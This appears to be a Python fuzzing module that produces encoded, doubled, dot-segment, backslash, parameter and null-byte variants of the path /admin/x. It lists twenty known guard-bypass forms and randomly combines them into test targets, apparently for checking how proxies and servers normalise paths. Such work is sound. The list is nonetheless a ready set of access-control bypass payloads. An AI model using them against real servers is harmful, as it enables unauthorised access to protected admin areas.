"""Ways to write a path: those that are known to pass guards, and random combinations of what servers decode, merge, remove and cut.

In: a seed. Out: targets, of which each is `/admin` or a path below it for some server.
"""

import random

KNOWN = {
    "as it is": "/admin/x",
    "decoded": "/%61dmin/x",
    "decoded twice": "/%2561dmin/x",
    "dot segments": "/a/../admin/x",
    "decoded dot segments": "/a/%2e%2E/admin/x",
    "decoded slashes": "/a%2f..%2fadmin%2fx",
    "merged slashes": "//admin//x",
    "parameters": "/admin;p=1/x",
    "parameters in dot segments": "/a/..;p=1/admin/x",
    "backslashes": "/a\\..\\admin\\x",
    "decoded backslashes": "/a%5c..%5cadmin%5cx",
    "an authority": "//a/admin/x",
    "an authority behind slashes": "///a/admin/x",
    "an authority behind a backslash": "/\\a/admin/x",
    "a zero byte": "/admin%00/x",
    "a decoded question mark": "/admin%3fx",
    "a decoded number sign": "/admin%23x",
    "a slash that stays encoded": "/a%2fb/../%61dmin/x",
    "a whole URL": "http://localhost/%61dmin/x",
    "upper case": "/ADMIN/x",
}


def encoded(letter, number):
    digits = f"%{ord(letter):02{number.choice('xX')}}"
    return digits if number.random() < 0.9 else digits.replace("%", "%25")


def combined(number):
    """One random way to write /admin/x."""
    slash = lambda: number.choice(["/"] * 6 + ["//", "/./", "\\", "%2f", "%5c", "/;/", "/a/../", "/a/%2e%2e/", "/a/..;/", "/%2e/", "/a%2fb/../"])
    word = lambda text: "".join(encoded(letter, number) if number.random() < 0.1 else letter for letter in text)
    parameter = lambda: number.choice([""] * 8 + [";", ";p=1"])
    end = lambda: number.choice([""] * 8 + ["%00", "%3f", "%23", "?x", ";", "/.", "/.."])
    start = number.choice([""] * 6 + ["/a", "//a", "/..", "/../..", "http://localhost"])
    first = "/" if start.startswith("http") else slash()
    target = start + first + word("admin") + parameter() + slash() + word("x") + end()
    return target if target.startswith(("/", "http")) else f"/{target}"


def combinations(seed, count):
    number = random.Random(seed)
    return [combined(number) for _ in range(count)]
